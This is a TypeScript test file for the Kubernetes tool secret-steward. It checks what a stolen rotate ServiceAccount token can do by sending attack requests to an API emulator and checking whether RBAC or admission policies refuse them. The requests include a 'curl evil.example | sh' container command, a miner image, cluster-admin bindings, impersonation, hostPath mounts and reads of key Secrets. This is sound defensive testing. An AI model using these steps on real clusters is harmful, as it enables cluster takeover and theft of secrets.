import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { toWorkload } from '../../shared/kube/workloads.js';
import { repointOps } from '../../shared/rotate/secret-refs.js';
import { RESTART_ANNOTATION } from '../../shared/rotate/workload-fields.js';
import { api } from '../emulator/helpers.js';
import { INSTALLATIONS, type Installation } from './installations.js';
import { permissionsOf, TOOL_NAMESPACE } from './rbac.js';
import { describeRule, permissionKey, RbacE2E, ruleGroups } from './rbac-e2e.js';
import { REPO_ROOT, renderManifestsSync } from './render.js';

/**
 * docs/threat-model.md T9, proved: what a stolen rotate token can still do. An attacker holding
 * rotate's ServiceAccount token tries each action of {@link ATTACKS} through the API emulator,
 * with the RBAC of each installation and the admission policies of manifests/base enforced, and
 * gets the outcome the table states: allowed, refused by RBAC, refused by the companions policy
 * (Secret create/delete) or refused by the workload policies. The same table, rendered, is the
 * one in docs/threat-model.md (a drift check; `UPDATE_THREAT_MODEL=1` rewrites it), so the
 * threat model cannot claim less or more than the API server answers. Every rule rotate holds is
 * used by at least one allowed action, so a wider Role needs a new row saying what it adds.
 */

type Outcome = 'allowed' | 'RBAC' | 'companions policy' | 'workload policy' | 'lease policy';
type InstallationName = Installation['name'];

interface Request {
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  path: string;
  body?: unknown;
  contentType?: string;
  headers?: Record<string, string>;
}

interface Attack {
  /** What the attacker tries, as the threat model words it (markdown). */
  action: string;
  /** What every request of the action gets, per installation. */
  outcome: Record<InstallationName, Outcome>;
  requests: Request[];
}

/** The namespace rotate works in (the namespaced installation's scope). */
const SCOPED = 'shop';
/** An application namespace outside the scope. */
const OTHER = 'billing';
const b64 = (s: string) => Buffer.from(s).toString('base64');

/** secret-steward's own Secrets (the names manifests/ mounts). */
const OWN_SECRETS = {
  restoreKeys: 'secret-steward-restore-keys',
  backupKeys: 'secret-steward-backup-keys',
  signingKeys: ['secret-steward-signing-key', 'secret-steward-pre-restore-signing-key', 'secret-steward-drill-signing-key'],
  storeCredentials: ['secret-steward-s3-credentials', 'secret-steward-s3-credentials-readonly'],
  /** Follow mode's digest key (shared/rotate/follow.ts): rotate makes it, or the namespaced install does. */
  followKey: 'secret-steward-follow-key',
};

const WORKLOADS = [
  { kind: 'Deployment', group: 'apps', resource: 'deployments', name: 'web', template: '/spec/template' },
  { kind: 'StatefulSet', group: 'apps', resource: 'statefulsets', name: 'ledger', template: '/spec/template' },
  { kind: 'DaemonSet', group: 'apps', resource: 'daemonsets', name: 'agent', template: '/spec/template' },
  { kind: 'CronJob', group: 'batch', resource: 'cronjobs', name: 'report', template: '/spec/jobTemplate/spec/template' },
] as const;
type WorkloadRef = (typeof WORKLOADS)[number];

const secretPath = (ns: string, name = '') => `/api/v1/namespaces/${ns}/secrets${name ? `/${name}` : ''}`;
const workloadPath = (w: WorkloadRef, ns = SCOPED, name: string = w.name) => `/apis/${w.group}/v1/namespaces/${ns}/${w.resource}/${name}`;
const get = (path: string): Request => ({ method: 'GET', path });
const post = (path: string, body: unknown): Request => ({ method: 'POST', path, body });
const jsonPatch = (path: string, ops: unknown[]): Request => ({
  method: 'PATCH',
  path,
  body: ops,
  contentType: 'application/json-patch+json',
});
const mergePatch = (path: string, body: unknown): Request => ({ method: 'PATCH', path, body, contentType: 'application/merge-patch+json' });
const remove = (path: string): Request => ({ method: 'DELETE', path });

const secret = (ns: string, name: string, extra: Record<string, unknown> = {}) => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name, namespace: ns, ...((extra.metadata as object | undefined) ?? {}) },
  data: { value: b64('attacker') },
  ...Object.fromEntries(Object.entries(extra).filter(([k]) => k !== 'metadata')),
});
const companion = (ns: string, name: string) => secret(ns, name, { metadata: { labels: { 'secret-steward.io/role': 'pending' } } });

/** One JSON patch per workload kind, built from the path of its pod template. */
const eachKind = (ops: (template: string, w: WorkloadRef) => unknown[]) =>
  WORKLOADS.map((w) => jsonPatch(workloadPath(w), ops(w.template, w)));

const restart = (w: WorkloadRef, ns = SCOPED, name: string = w.name) =>
  mergePatch(
    workloadPath(w, ns, name),
    w.kind === 'CronJob'
      ? { spec: { jobTemplate: { spec: { template: { metadata: { annotations: { [RESTART_ANNOTATION]: 'attacker' } } } } } } }
      : { spec: { template: { metadata: { annotations: { [RESTART_ANNOTATION]: 'attacker' } } } } },
  );

/** A microsecond timestamp the API accepts. */
const MICRO_NOW = '2026-01-01T00:00:00.000000Z';
const lease = (name: string, annotations: Record<string, string> = {}) => ({
  apiVersion: 'coordination.k8s.io/v1',
  kind: 'Lease',
  metadata: { name, namespace: TOOL_NAMESPACE, annotations },
  spec: { holderIdentity: 'attacker', leaseDurationSeconds: 315_360_000, acquireTime: MICRO_NOW, renewTime: MICRO_NOW },
});
const leasePath = (name = '') => `/apis/coordination.k8s.io/v1/namespaces/${TOOL_NAMESPACE}/leases${name ? `/${name}` : ''}`;

/** secret-steward's backup CronJob as manifests/base renders it, and rotate's patch repointing its recipient keys. */
const BACKUP_CRONJOB = renderManifestsSync('manifests/base').find(
  (o) => o.kind === 'CronJob' && o.metadata.name === 'secret-steward-backup',
)!;
const REPOINT_BACKUP_KEYS = repointOps(toWorkload('CronJob', BACKUP_CRONJOB as never), OWN_SECRETS.backupKeys, 'attacker-keys');

const both = (o: Outcome): Record<InstallationName, Outcome> => ({ 'cluster-wide': o, namespaced: o });
const scopedOnly = (clusterWide: Outcome): Record<InstallationName, Outcome> => ({ 'cluster-wide': clusterWide, namespaced: 'RBAC' });

/** The table: each action of an attacker holding rotate's token, and what the API server answers. */
const ATTACKS: readonly Attack[] = [
  // Secrets of the namespaces rotate works in: its job.
  {
    action: 'read a Secret, list the Secrets of a namespace in scope',
    outcome: both('allowed'),
    requests: [get(secretPath(SCOPED, 'db')), get(secretPath(SCOPED))],
  },
  {
    action: 'overwrite the data of a Secret in scope',
    outcome: both('allowed'),
    requests: [{ method: 'PUT', path: secretPath(SCOPED, 'db'), body: secret(SCOPED, 'db') }],
  },
  {
    action: 'write a rotation policy onto a Secret in scope (the real rotate job then replaces its value)',
    outcome: both('allowed'),
    requests: [mergePatch(secretPath(SCOPED, 'api-key'), { metadata: { annotations: { 'secret-steward.io/rotation': 'maxAge: 1d' } } })],
  },
  { action: 'watch Secrets', outcome: both('RBAC'), requests: [get(`${secretPath(SCOPED)}?watch=true`)] },
  {
    action: 'create a Secret without the companion label',
    outcome: both('companions policy'),
    requests: [post(secretPath(SCOPED), secret(SCOPED, 'planted'))],
  },
  {
    action: 'create a Secret labelled as a companion (`secret-steward.io/role: pending`), any name and content',
    outcome: both('allowed'),
    requests: [post(secretPath(SCOPED), companion(SCOPED, 'planted-companion'))],
  },
  {
    action: 'create a service-account-token Secret (labelled as a companion) to mint a token',
    outcome: both('companions policy'),
    requests: [
      post(
        secretPath(SCOPED),
        secret(SCOPED, 'minted', {
          type: 'kubernetes.io/service-account-token',
          metadata: { labels: { 'secret-steward.io/role': 'pending' }, annotations: { 'kubernetes.io/service-account.name': 'default' } },
          data: {},
        }),
      ),
    ],
  },
  { action: 'delete a Secret', outcome: both('companions policy'), requests: [remove(secretPath(SCOPED, 'cache'))] },
  {
    action: 'label a Secret as a companion, then delete it',
    outcome: both('allowed'),
    requests: [
      mergePatch(secretPath(SCOPED, 'session'), { metadata: { labels: { 'secret-steward.io/role': 'pending' } } }),
      remove(secretPath(SCOPED, 'session')),
    ],
  },
  // Secrets elsewhere.
  { action: 'list the Secrets of every namespace', outcome: scopedOnly('allowed'), requests: [get('/api/v1/secrets')] },
  {
    action: 'read or overwrite a Secret of a namespace outside the scope',
    outcome: scopedOnly('allowed'),
    requests: [get(secretPath(OTHER, 'db')), { method: 'PUT', path: secretPath(OTHER, 'db'), body: secret(OTHER, 'db') }],
  },
  {
    action: "read a long-lived service-account-token Secret in kube-system (that account's rights)",
    outcome: scopedOnly('allowed'),
    requests: [get(secretPath('kube-system', 'legacy-admin-token'))],
  },
  // secret-steward's own Secrets.
  {
    action: "list secret-steward's Secrets; read the restore keys (decrypt every backup)",
    outcome: scopedOnly('allowed'),
    requests: [get(secretPath(TOOL_NAMESPACE)), get(secretPath(TOOL_NAMESPACE, OWN_SECRETS.restoreKeys))],
  },
  {
    action: "read the backup keys; overwrite them (add the attacker's recipient to every later backup)",
    outcome: scopedOnly('allowed'),
    requests: [
      get(secretPath(TOOL_NAMESPACE, OWN_SECRETS.backupKeys)),
      { method: 'PUT', path: secretPath(TOOL_NAMESPACE, OWN_SECRETS.backupKeys), body: secret(TOOL_NAMESPACE, OWN_SECRETS.backupKeys) },
    ],
  },
  {
    action: 'read the signing keys (backup, pre-restore, drill report)',
    outcome: scopedOnly('allowed'),
    requests: OWN_SECRETS.signingKeys.map((n) => get(secretPath(TOOL_NAMESPACE, n))),
  },
  {
    action: "read the store credentials (the backup job's may delete backups)",
    outcome: scopedOnly('allowed'),
    requests: OWN_SECRETS.storeCredentials.map((n) => get(secretPath(TOOL_NAMESPACE, n))),
  },
  {
    action:
      "read follow mode's digest key (then confirm a guessed value of a followed Secret against the digest in its consumers' pod templates)",
    outcome: both('allowed'),
    requests: [get(secretPath(TOOL_NAMESPACE, OWN_SECRETS.followKey))],
  },
  {
    action: "repoint secret-steward's backup CronJob from its recipient keys to a companion-labelled Secret of the attacker's",
    outcome: scopedOnly('allowed'),
    requests: [
      post(secretPath(TOOL_NAMESPACE), companion(TOOL_NAMESPACE, 'attacker-keys')),
      jsonPatch(workloadPath(WORKLOADS[3], TOOL_NAMESPACE, 'secret-steward-backup'), REPOINT_BACKUP_KEYS),
    ],
  },
  // Workloads of the namespaces in scope: only restarts and repoints pass the workload policies.
  {
    action: 'read every workload (get, list, watch Deployments, StatefulSets, DaemonSets; get, list CronJobs)',
    outcome: both('allowed'),
    requests: WORKLOADS.flatMap((w) => [
      get(workloadPath(w)),
      get(`/apis/${w.group}/v1/namespaces/${SCOPED}/${w.resource}`),
      ...(w.kind === 'CronJob' ? [] : [get(`/apis/${w.group}/v1/namespaces/${SCOPED}/${w.resource}?watch=true`)]),
    ]),
  },
  {
    action: 'restart a Deployment, StatefulSet, DaemonSet or CronJob (restart annotation)',
    outcome: both('allowed'),
    requests: WORKLOADS.map((w) => restart(w)),
  },
  {
    action: "repoint a workload's Secret references to another Secret of its namespace",
    outcome: both('allowed'),
    requests: eachKind((t) => [
      { op: 'replace', path: `${t}/spec/containers/0/envFrom/0/secretRef/name`, value: 'api-key' },
      { op: 'replace', path: `${t}/spec/volumes/0/secret/secretName`, value: 'api-key' },
    ]),
  },
  {
    action: "change a workload's image",
    outcome: both('workload policy'),
    requests: eachKind((t) => [{ op: 'replace', path: `${t}/spec/containers/0/image`, value: 'evil.example/miner:1' }]),
  },
  {
    action: "change a workload's command",
    outcome: both('workload policy'),
    requests: eachKind((t) => [{ op: 'add', path: `${t}/spec/containers/0/command`, value: ['/bin/sh', '-c', 'curl evil.example | sh'] }]),
  },
  {
    action: "change a workload's `serviceAccountName`",
    outcome: both('workload policy'),
    requests: eachKind((t) => [{ op: 'add', path: `${t}/spec/serviceAccountName`, value: 'admin' }]),
  },
  {
    action: "make a workload's container privileged",
    outcome: both('workload policy'),
    requests: eachKind((t) => [{ op: 'add', path: `${t}/spec/containers/0/securityContext`, value: { privileged: true } }]),
  },
  {
    action: 'add a hostPath volume to a workload',
    outcome: both('workload policy'),
    requests: eachKind((t) => [{ op: 'add', path: `${t}/spec/volumes/-`, value: { name: 'host', hostPath: { path: '/' } } }]),
  },
  {
    action: "change a workload's spec outside its pod template (scale to 0, suspend a CronJob)",
    outcome: both('workload policy'),
    requests: eachKind((_t, w) =>
      w.kind === 'CronJob'
        ? [{ op: 'add', path: '/spec/suspend', value: true }]
        : w.kind === 'DaemonSet'
          ? [{ op: 'add', path: '/spec/minReadySeconds', value: 86_400 }]
          : [{ op: 'replace', path: '/spec/replicas', value: 0 }],
    ),
  },
  {
    action: 'scale a Deployment (scale subresource), delete a Deployment',
    outcome: both('RBAC'),
    requests: [mergePatch(`${workloadPath(WORKLOADS[0])}/scale`, { spec: { replicas: 0 } }), remove(workloadPath(WORKLOADS[0]))],
  },
  // Workloads of other namespaces.
  {
    action: 'restart a Deployment in kube-system, repoint its Secret reference',
    outcome: scopedOnly('allowed'),
    requests: [
      restart(WORKLOADS[0], 'kube-system', 'coredns'),
      jsonPatch(workloadPath(WORKLOADS[0], 'kube-system', 'coredns'), [
        { op: 'replace', path: '/spec/template/spec/volumes/0/secret/secretName', value: 'legacy-admin-token' },
      ]),
    ],
  },
  {
    action: 'change the image of a Deployment in kube-system',
    outcome: scopedOnly('workload policy'),
    requests: [
      jsonPatch(workloadPath(WORKLOADS[0], 'kube-system', 'coredns'), [
        { op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'evil.example/dns:1' },
      ]),
    ],
  },
  // Everything rotate holds no rule for.
  {
    action: 'create a Pod, a Deployment, a Job',
    outcome: both('RBAC'),
    requests: [
      post(`/api/v1/namespaces/${SCOPED}/pods`, {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'evil' },
        spec: { containers: [{ name: 'c', image: 'evil.example/x' }] },
      }),
      post(`/apis/apps/v1/namespaces/${SCOPED}/deployments`, { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'evil' } }),
      post(`/apis/batch/v1/namespaces/${SCOPED}/jobs`, { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'evil' } }),
    ],
  },
  {
    action: 'exec into, attach to or port-forward a Pod; read its logs',
    outcome: both('RBAC'),
    requests: [
      { method: 'POST', path: `/api/v1/namespaces/${SCOPED}/pods/web-0/exec?command=sh` },
      { method: 'POST', path: `/api/v1/namespaces/${SCOPED}/pods/web-0/attach` },
      { method: 'POST', path: `/api/v1/namespaces/${SCOPED}/pods/web-0/portforward` },
      get(`/api/v1/namespaces/${SCOPED}/pods/web-0/log`),
    ],
  },
  {
    action: 'read ConfigMaps',
    outcome: both('RBAC'),
    requests: [get(`/api/v1/namespaces/${SCOPED}/configmaps`), get('/api/v1/namespaces/kube-system/configmaps')],
  },
  {
    action: 'create a token for another ServiceAccount (`serviceaccounts/token`)',
    outcome: both('RBAC'),
    requests: [SCOPED, 'kube-system'].map((ns) =>
      post(`/api/v1/namespaces/${ns}/serviceaccounts/default/token`, {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: {},
      }),
    ),
  },
  {
    action: 'impersonate a user, a ServiceAccount or the group `system:masters`',
    outcome: both('RBAC'),
    requests: [
      { method: 'GET', path: '/api/v1/namespaces/kube-system/configmaps', headers: { 'Impersonate-User': 'system:admin' } },
      {
        method: 'GET',
        path: '/api/v1/namespaces/kube-system/configmaps',
        headers: { 'Impersonate-User': 'system:serviceaccount:kube-system:default' },
      },
      {
        method: 'GET',
        path: '/api/v1/namespaces/kube-system/configmaps',
        headers: {
          'Impersonate-User': 'system:serviceaccount:secret-steward:secret-steward-rotate',
          'Impersonate-Group': 'system:masters',
        },
      },
    ],
  },
  {
    action: 'bind itself to cluster-admin (RoleBinding, ClusterRoleBinding); widen its own ClusterRole or Role',
    outcome: both('RBAC'),
    requests: [
      post(`/apis/rbac.authorization.k8s.io/v1/namespaces/${SCOPED}/rolebindings`, bindingToClusterAdmin('RoleBinding')),
      post('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', bindingToClusterAdmin('ClusterRoleBinding')),
      mergePatch('/apis/rbac.authorization.k8s.io/v1/clusterroles/secret-steward-rotate', {
        rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
      }),
      mergePatch(`/apis/rbac.authorization.k8s.io/v1/namespaces/${TOOL_NAMESPACE}/roles/secret-steward-rotate`, {
        rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
      }),
    ],
  },
  {
    action: 'edit or delete the admission policies or their bindings',
    outcome: both('RBAC'),
    requests: [
      mergePatch('/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/secret-steward-rotate-deployments', {
        spec: { validations: [{ expression: 'true' }] },
      }),
      remove('/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/secret-steward-rotate-companions'),
    ],
  },
  {
    action: "create a Namespace; delete secret-steward's NetworkPolicies; create a CertificateSigningRequest",
    outcome: both('RBAC'),
    requests: [
      post('/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'evil' } }),
      remove(`/apis/networking.k8s.io/v1/namespaces/${TOOL_NAMESPACE}/networkpolicies/secret-steward-allow-apiserver`),
      post('/apis/certificates.k8s.io/v1/certificatesigningrequests', {
        apiVersion: 'certificates.k8s.io/v1',
        kind: 'CertificateSigningRequest',
        metadata: { name: 'evil' },
      }),
    ],
  },
  // Events and Leases.
  {
    action: 'forge an Event in a namespace in scope',
    outcome: both('allowed'),
    requests: [post(`/api/v1/namespaces/${SCOPED}/events`, event(SCOPED))],
  },
  {
    action: 'forge an Event in kube-system',
    outcome: scopedOnly('allowed'),
    requests: [post('/api/v1/namespaces/kube-system/events', event('kube-system'))],
  },
  {
    action: 'hold rotate\'s own Lease for ten years (the real rotate job stops with "lock held")',
    outcome: both('allowed'),
    requests: [
      get(leasePath('secret-steward-rotate')),
      { method: 'PUT', path: leasePath('secret-steward-rotate'), body: lease('secret-steward-rotate') },
    ],
  },
  {
    action: 'create the Lease of a job that has not run yet (restore), held for ten years, with an in-flight note',
    outcome: both('lease policy'),
    requests: [post(leasePath(), lease('secret-steward-restore', { 'secret-steward.io/in-flight': 'backup attacker' }))],
  },
  {
    action: 'create the backup Lease before the first backup, with a note that makes the next backup delete a backup',
    outcome: both('lease policy'),
    requests: [post(leasePath(), lease('secret-steward-backup', { 'secret-steward.io/in-flight': 'prune 20260101T030000Z-abcdef' }))],
  },
  {
    action: 'take over the Lease of a job that has run (backup)',
    outcome: both('RBAC'),
    requests: [{ method: 'PUT', path: leasePath('secret-steward-backup'), body: lease('secret-steward-backup') }],
  },
];

function bindingToClusterAdmin(kind: 'RoleBinding' | 'ClusterRoleBinding') {
  return {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind,
    metadata: { name: 'evil' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'ServiceAccount', name: 'secret-steward-rotate', namespace: TOOL_NAMESPACE }],
  };
}

function event(ns: string) {
  return {
    apiVersion: 'v1',
    kind: 'Event',
    metadata: { name: `forged.${ns}` },
    involvedObject: { apiVersion: 'v1', kind: 'Secret', namespace: ns, name: 'db' },
    reason: 'Rotated',
    message: 'rotated by secret-steward',
    type: 'Normal',
    source: { component: 'secret-steward-rotate' },
  };
}

const OUTCOME_TEXT: Record<Outcome, string> = {
  allowed: '**allowed**',
  RBAC: 'refused (RBAC)',
  'companions policy': 'refused (companions policy)',
  'workload policy': 'refused (workload policy)',
  'lease policy': 'refused (lease policy)',
};

/** The table as docs/threat-model.md shows it. */
function renderAttackTable(): string {
  const rows = ATTACKS.map((a) => `| ${a.action} | ${OUTCOME_TEXT[a.outcome['cluster-wide']]} | ${OUTCOME_TEXT[a.outcome.namespaced]} |`);
  return ['| a stolen rotate token tries to | cluster-wide | namespaced |', '| --- | --- | --- |', ...rows].join('\n');
}

const DOC = 'docs/threat-model.md';
const BEGIN = '<!-- BEGIN stolen-rotate-token: generated from test/manifests/stolen-rotate-token.test.ts -->';
const END = '<!-- END stolen-rotate-token -->';

/** Whether a response is the outcome expected, and if not, what it was. */
function judge(expected: Outcome, r: { status: number; body?: { message?: string }; text: string }): string | undefined {
  const message = r.body?.message ?? '';
  const policy = /ValidatingAdmissionPolicy '([^']+)'/.exec(message)?.[1];
  const got: Outcome | string =
    r.status >= 200 && r.status < 300
      ? 'allowed'
      : r.status !== 403
        ? `${r.status}: ${r.text.slice(0, 300)}`
        : policy === 'secret-steward-rotate-companions'
          ? 'companions policy'
          : policy === 'secret-steward-leases'
            ? 'lease policy'
            : policy?.startsWith('secret-steward-rotate-')
              ? 'workload policy'
              : /cannot \S+ resource/.test(message)
                ? 'RBAC'
                : `403: ${message}`;
  return got === expected ? undefined : got;
}

describe('manifests: a stolen rotate token (docs/threat-model.md T9)', function () {
  this.timeout(120_000);
  let e: RbacE2E;
  let token: string;

  before(async () => {
    e = await RbacE2E.start('rotate');
    token = e.h.emulator.serviceAccountToken(TOOL_NAMESPACE, 'secret-steward-rotate');
  });
  after(async () => e?.stop());

  it('docs/threat-model.md shows this table', async () => {
    const path = join(REPO_ROOT, DOC);
    let doc = await readFile(path, 'utf8');
    const start = doc.indexOf(BEGIN);
    const end = doc.indexOf(END);
    assert.ok(start >= 0 && end > start, `${DOC} has no ${BEGIN} ... ${END} section`);
    const expected = `${doc.slice(0, start + BEGIN.length)}\n${renderAttackTable()}\n${doc.slice(end)}`;

    if (process.env.UPDATE_THREAT_MODEL) {
      await writeFile(path, expected);
      doc = await readFile(path, 'utf8');
    }

    assert.equal(
      doc,
      expected,
      `the table in ${DOC} differs from ATTACKS: run UPDATE_THREAT_MODEL=1 npx mocha test/manifests/stolen-rotate-token.test.ts`,
    );
  });

  /** The cluster an attacker meets: workloads and Secrets in scope, outside it, in kube-system and secret-steward's own. */
  function seed(): void {
    const emu = e.h.emulator;
    for (const ns of [SCOPED, OTHER]) e.ensureNamespace(ns);
    // reset() keeps kube-system: what the previous installation's attacker changed there goes first.
    for (const [apiVersion, kind, name] of [
      ['v1', 'Secret', 'legacy-admin-token'],
      ['apps/v1', 'Deployment', 'coredns'],
      ['v1', 'Event', 'forged.kube-system'],
    ])
      if (emu.get(apiVersion, kind, 'kube-system', name)) emu.delete(apiVersion, kind, 'kube-system', name);
    const create = (o: Record<string, unknown>) => emu.create(o as never);
    for (const name of ['db', 'api-key', 'cache', 'session']) create(secret(SCOPED, name));
    create(secret(OTHER, 'db'));
    create(
      secret('kube-system', 'legacy-admin-token', {
        type: 'kubernetes.io/service-account-token',
        metadata: { annotations: { 'kubernetes.io/service-account.name': 'default' } },
        data: { token: b64('t') },
      }),
    );
    for (const name of [
      OWN_SECRETS.restoreKeys,
      OWN_SECRETS.backupKeys,
      ...OWN_SECRETS.signingKeys,
      ...OWN_SECRETS.storeCredentials,
      OWN_SECRETS.followKey,
    ])
      create(secret(TOOL_NAMESPACE, name));
    const template = (app: string, secretName: string, pod: Record<string, unknown> = {}) => ({
      metadata: { labels: { app } },
      spec: {
        containers: [
          {
            name: 'app',
            image: 'registry.example/app:1.0',
            envFrom: [{ secretRef: { name: secretName } }],
            volumeMounts: [{ name: 's', mountPath: '/s' }],
          },
        ],
        volumes: [{ name: 's', secret: { secretName } }],
        ...pod,
      },
    });
    const selector = (app: string) => ({ matchLabels: { app } });
    create({
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'web', namespace: SCOPED },
      spec: { replicas: 2, selector: selector('web'), template: template('web', 'db') },
    });
    create({
      apiVersion: 'apps/v1',
      kind: 'StatefulSet',
      metadata: { name: 'ledger', namespace: SCOPED },
      spec: { replicas: 2, serviceName: 'ledger', selector: selector('ledger'), template: template('ledger', 'db') },
    });
    create({
      apiVersion: 'apps/v1',
      kind: 'DaemonSet',
      metadata: { name: 'agent', namespace: SCOPED },
      spec: { selector: selector('agent'), template: template('agent', 'db') },
    });
    create({
      apiVersion: 'batch/v1',
      kind: 'CronJob',
      metadata: { name: 'report', namespace: SCOPED },
      spec: { schedule: '0 * * * *', jobTemplate: { spec: { template: template('report', 'db', { restartPolicy: 'Never' }) } } },
    });
    create({
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'coredns', namespace: 'kube-system' },
      spec: { replicas: 2, selector: selector('coredns'), template: template('coredns', 'coredns-tls') },
    });
    create(structuredClone(BACKUP_CRONJOB));
    for (const o of renderManifestsSync('manifests/base').filter((x) => x.kind === 'NetworkPolicy')) create(structuredClone(o));
    for (const name of ['secret-steward-rotate', 'secret-steward-backup'])
      create({
        apiVersion: 'coordination.k8s.io/v1',
        kind: 'Lease',
        metadata: { name, namespace: TOOL_NAMESPACE },
        spec: { leaseDurationSeconds: 60 },
      });
  }

  for (const inst of INSTALLATIONS)
    describe(inst.name, () => {
      const objects = inst.rbacObjectsFor('rotate', [SCOPED]);
      const permissions = permissionsOf(objects);

      before(async () => {
        await e.reset(objects);
        seed();
        await e.h.emulator.workloads.idle();
      });

      for (const attack of ATTACKS) {
        const expected = attack.outcome[inst.name];
        it(`${attack.action}: ${expected}`, async () => {
          const outcomes: string[] = [];

          for (const req of attack.requests) {
            const r = await send(req);
            const wrong = judge(expected, r);
            if (wrong !== undefined) outcomes.push(`${req.method} ${req.path}: ${wrong}`);
          }

          assert.deepEqual(outcomes, [], `expected ${expected} for every request`);
        });
      }

      it('every rule rotate holds is used by an allowed action of the table (a wider Role needs a row)', () => {
        const usage = e.usage(permissions);

        const unused = ruleGroups(permissions)
          .filter((group) => !group.some((p) => (usage.allowed.get(permissionKey(p)) ?? []).length > 0))
          .map(describeRule);

        assert.deepEqual(unused, [], 'say in ATTACKS what a stolen token does with these');
        assert.deepEqual(usage.foreign, [], 'nothing was allowed by a rule outside the rendered RBAC');
      });
    });

  /** One request as rotate's ServiceAccount; a watch is answered once its headers arrive. */
  async function send(req: Request): Promise<{ status: number; body?: { message?: string }; text: string }> {
    if (!req.path.includes('watch=true'))
      return api(e.h.emulator, req.method, req.path, req.body, { token, contentType: req.contentType, headers: req.headers });
    const abort = new AbortController();
    const res = await fetch(`${e.h.emulator.url}${req.path}`, { headers: { authorization: `Bearer ${token}` }, signal: abort.signal });
    if (res.status >= 200 && res.status < 300) {
      abort.abort();
      return { status: res.status, text: '' };
    }
    const text = await res.text();
    return { status: res.status, body: JSON.parse(text) as { message?: string }, text };
  }
});
